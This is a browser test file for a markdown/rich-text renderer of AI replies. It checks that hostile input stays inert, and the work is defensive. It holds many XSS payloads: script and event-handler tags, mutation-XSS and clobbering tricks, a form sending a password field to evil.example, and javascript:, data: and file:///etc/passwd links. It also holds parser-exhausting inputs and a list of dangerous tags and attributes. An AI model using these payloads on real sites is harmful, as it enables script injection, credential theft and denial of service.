// biome-ignore-all lint/performance/useDomNodeTextContent: what is meant is the text that readers see.
// Replies that mean harm: nothing in them runs or loads, breaks the layout or keeps the page busy.
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'bun:test';
import { chromiumPath } from '../../testing/browser.ts';
import {
  type OpenPage,
  type Rich,
  type RichTextPage,
  startRichTextPage,
} from '../../testing/rich-text-page.ts';

declare const rich: Rich;

const markup: Record<string, string> = {
  script: '<script>document.title="owned"</script><script src="https://evil.example/x.js"></script>',
  frames:
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
  handlers:
    '<img src=x onerror="document.title=\'owned\'"><body onload=alert(1)><details open ontoggle=alert(1)>',
  'svg and math':
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg><svg onload=alert(1)>',
  namespaces:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">' +
    '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  styles:
    '<style>*{display:none!important}</style><p style="position:fixed;inset:0">x</p><link rel=stylesheet href=//evil.example>',
  forms:
    '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  'meta and base':
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  'dangling markup': '<img src="https://evil.example/?<a href=\'https://evil.example/?\n\ntext',
  clobbering: '<a id=rich name=rich></a><form id=document><input name=body></form><img name=getElementById>',
  template:
    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'half a tag': '<img src=x onerror=alert(1) //\n\n<scr<script>ipt>alert(1)</scr</script>ipt>',
};

const links = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/x)',
  '[x](//evil.example)',
  '[x](https:evil.example)',
  '[x](http://[)',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[r]: javascript:alert(1)\n\n[x][r]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '[x](https://a.example"onmouseover="alert(1))',
  "[x](https://a.example'onmouseover='alert\\(1\\))",
  '![" onerror="alert(1)](https://a.example/x.png "\\" onload=\\"alert(1)")',
  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  '```js" onclick="alert(1)\ncode\n```',
  '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example}$',
  '$\\class{rt-copy}{x}$ $\\id{host}{x}$ $\\style{position:fixed}{x}$ $\\data{a=b}{x}$',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img]: x',
  '[^1](javascript:alert(1)) [a[^1]](https://a.example)\n\n[^1]: [x](javascript:alert(1))',
  '<details><summary><img src=x onerror=alert(1)></summary>[x](javascript:alert(1))</details>',
  '$\\text{<img src=x onerror=alert(1)>}$ $\\unicode{60}$ $\\color{red;position:fixed}{x}$',
];

const heavy: Record<string, string> = {
  'quotes, 10,000 deep': '>'.repeat(10_000),
  'quotes with spaces, 10,000 deep': '> '.repeat(10_000),
  'lists on one line': `${'- '.repeat(10_000)}x`,
  'numbers on one line': `${'1. '.repeat(10_000)}x`,
  'lists by indent': Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- a`).join('\n'),
  'quotes in lists': `${'> - '.repeat(5000)}x`,
  stars: '*a **b '.repeat(20_000),
  'stars without end': '*'.repeat(100_000),
  'low lines': 'a_'.repeat(50_000),
  waves: '~~a '.repeat(20_000),
  backquotes: Array.from({ length: 400 }, (_, length) => '`'.repeat(length)).join('a'),
  brackets: '['.repeat(50_000),
  'links in links': '[a]('.repeat(20_000),
  images: '![a]('.repeat(20_000),
  angles: '<a '.repeat(20_000),
  backslashes: '\\'.repeat(100_000),
  dollars: '$a'.repeat(30_000),
  'formula groups': `$${'{'.repeat(1500)}${'}'.repeat(1500)}$`,
  'formula macros':
    '$\\def\\a{xx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c\\c\\c\\c\\c\\c$',
  mail: 'a@'.repeat(30_000),
  addresses: 'http://'.repeat(15_000),
  definitions: '[a]: b\n'.repeat(10_000),
  'pipes in a row': '|'.repeat(50_000),
  'a wide table': `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n|${'b|'.repeat(2000)}`,
  'a word of 100,000 letters': 'x'.repeat(100_000),
  'a line of code of 100,000 letters': `\`\`\`js\n${'"a"+'.repeat(25_000)}\n\`\`\``,
  rules: '---\n\n'.repeat(8000),
  'a formula that is huge': '$$\\rule{9999em}{9999em}\\hspace{9999em}\\Huge x \\raisebox{999em}{y}$$',
  'accents on one letter': `a${'\u0301'.repeat(20_000)}`,
  'folds within folds': '<details>\n'.repeat(5000),
  'folds one after another': '<details>\n\na\n</details>\n'.repeat(2000),
  'summaries without end': `<details>\n${'<summary>'.repeat(10_000)}`,
  'tags within tags': `${'<sub>'.repeat(390)}a${'</sub>'.repeat(390)}`,
  'tags without end': '<kbd>'.repeat(20_000),
  footnotes: '[^a] '.repeat(5000),
  'notes of one name': '[^a]: b\n'.repeat(3000),
  'notes of many names': Array.from({ length: 2000 }, (_, at) => `[^${at}]: b[^${at}]`).join('\n'),
  'a mixture': '# a\n- **b\n> `c\n| d |\n|-|\n'.repeat(1500),
};

/** What must not be below the host, whatever was written. */
function findHarm(): string[] {
  const harmful =
    'script,iframe,object,embed,style,link,meta,base,form,svg,img,video,audio,textarea,template,noscript';
  const found: string[] = [];
  for (const node of document.querySelectorAll('#host *')) {
    if (node.matches(harmful)) found.push(node.outerHTML);
    for (const { name, value } of node.attributes) {
      if (name === 'id' && /^fn(?:ref)?-[\d-]+$/.test(value)) continue;
      if (/^on|^style$|^id$|^name$|^src|^srcset|^action|^formaction|^xlink/i.test(name))
        found.push(`${name}=${value}`);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|#fn)/.test(value)) found.push(`${name}=${value}`);
      if (name === 'class' && !/^(?:rich-text|(?:(?:rt|hljs|tml)-[\w-]+|[a-z]+_| )*)$/.test(value))
        found.push(`${name}=${value}`);
    }
    if (node.matches('a:not([rel="noopener noreferrer nofollow"][target="_blank"])[href]:not([href^="#fn"])'))
      found.push(node.outerHTML);
  }
  if (document.title !== 'blank') found.push(document.title);
  return found;
}

describe.skipIf(chromiumPath === undefined)('rich text of those who mean harm', () => {
  let it: RichTextPage;
  let open: OpenPage;

  beforeAll(async () => {
    it = await startRichTextPage();
  }, 60_000);
  afterAll(() => it?.close());
  beforeEach(async () => {
    open = await it.open({ width: 360, height: 700 });
  });
  afterEach(async () => {
    expect(open.problems).toEqual([]);
    await open.close();
  });

  const isHarmless = async () => {
    expect(await open.page.evaluate(findHarm)).toEqual([]);
    expect(await open.width()).toBe(360);
  };

  for (const [name, html] of Object.entries(markup)) {
    test(`markup is text: ${name}`, async () => {
      await open.show(html);
      const shown = await open.page.locator('#host').innerText();
      expect(shown.replace(/\s/g, '')).toBe(
        html.replace(/&gt;/g, '>').replace(/&lt;/g, '<').replace(/\s/g, ''),
      );
      await isHarmless();
      await open.show(
        `- ${html}\n\n> ${html}\n\n| ${html} |\n|-|\n\n**${html}** [${html}](https://a.example)`,
      );
      await isHarmless();
    });
  }

  test('the sanitiser alone would do', async () => {
    for (const html of Object.values(markup)) {
      await open.page.evaluate((html) => {
        document.querySelector('#host')?.replaceChildren(rich.sanitize(html.replace(/style="[^"]*"/g, '')));
      }, html);
      await isHarmless();
    }
    // The policy speaks of what the sanitiser looked at, too.
    const blocked = /The action has been blocked/;
    open.problems.splice(0, Infinity, ...open.problems.filter((problem) => !blocked.test(problem)));
  });

  test('links lead nowhere harmful, and nothing gets out of its attribute', async () => {
    await open.show(links.join('\n\n'));
    await isHarmless();
    for (const link of links) {
      await open.show(link);
      await isHarmless();
    }
    const left = await open.page.evaluate(
      () => document.querySelectorAll('#host [onclick], #host [onerror]').length,
    );
    expect(left).toBe(0);
  });

  test('a hostile reply is harmless at every moment of its writing', async () => {
    const text = [...Object.values(markup), ...links].join('\n\n');
    const found = await open.page.evaluate(async (text) => {
      const stream = rich.createRichText(document.querySelector('#host') as Element);
      let seen = 0;
      for (let at = 0; at < text.length; at += 11) {
        stream.push(text.slice(at, at + 11));
        await new Promise((done) => requestAnimationFrame(done));
        if (
          document.querySelector(
            '#host :is(script, iframe, img, style, form, svg, [onerror], [style], [id]:not([id^=fn]))',
          )
        )
          seen++;
      }
      stream.end();
      await rich.richTextSettled();
      return seen;
    }, text);
    expect(found).toBe(0);
    await isHarmless();
  });

  for (const [name, text] of Object.entries(heavy)) {
    test(`heavy: ${name}`, async () => {
      await open.show(text);
      await isHarmless();
      const letters = await open.page.evaluate(
        () => document.querySelector('#host')?.textContent.length ?? 0,
      );
      if (/^[a-z ]+$/.test(text)) expect(letters).toBeGreaterThan(text.length * 0.9);
    });
  }

  test('a reply of 1 MB is shown a bit at a time, and the page answers meanwhile', async () => {
    const block =
      'Text with **bold** and `code`, '.repeat(20) +
      'and then:\n\n- a\n- b\n\n```js\nlet a = 1;\n```\n\n| a | b |\n|-|-|\n| 1 | 2 |\n\n';
    const report = await open.page.evaluate(
      async (text) => {
        const host = document.querySelector('#host') as HTMLElement;
        const frames: number[] = [];
        let last = performance.now();
        let on = true;
        const frame = (now: number) => {
          frames.push(now - last);
          last = now;
          if (on) requestAnimationFrame(frame);
        };
        requestAnimationFrame(frame);
        rich.createRichText(host).set(text);
        const atOnce = host.textContent.length / text.length;
        await rich.richTextSettled();
        on = false;
        frames.sort((a, b) => a - b);
        const end = host.textContent.includes('THE END');
        return {
          atOnce,
          end,
          frames: frames.length,
          p95: frames[Math.floor(frames.length * 0.95)],
          last: frames.at(-1),
        };
      },
      `${block.repeat(Math.ceil(1_000_000 / block.length))}\n\nTHE END`,
    );
    console.log('rich text, 1 MB at once:', JSON.stringify(report));
    expect(report.end).toBe(true);
    expect(report.atOnce).toBeLessThan(0.5);
    expect(report.frames).toBeGreaterThan(20);
    await isHarmless();
  }, 240_000);
});
